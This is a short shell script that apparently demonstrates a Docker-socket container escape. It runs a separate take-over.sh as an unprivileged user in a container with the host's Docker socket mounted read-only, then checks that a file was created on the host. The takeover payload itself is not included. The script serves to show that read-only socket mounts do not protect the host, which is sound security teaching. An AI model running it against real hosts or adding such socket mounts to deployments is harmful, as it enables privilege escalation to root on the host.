# Run take-over.sh in a container that has Docker's socket, mounted read-only,
# in the socket's group or in another: sh socket.sh [GROUP]
# Warning: writes the file /faq-made-by-container on the host.
socket=/run/docker.sock
docker run --rm --user 65534 --env HOME=/tmp \
  --group-add "${1:-$(stat -c %g $socket)}" \
  --volume "$socket:/var$socket:ro" \
  --volume "$(command -v docker):/usr/bin/docker:ro" \
  --volume "$PWD/take-over.sh:/take-over.sh:ro" \
  debian:bookworm-slim sh -c "grep $socket /proc/mounts; id -u; sh /take-over.sh"
stat -c 'on the host, user %u made %n' /faq-made-by-container
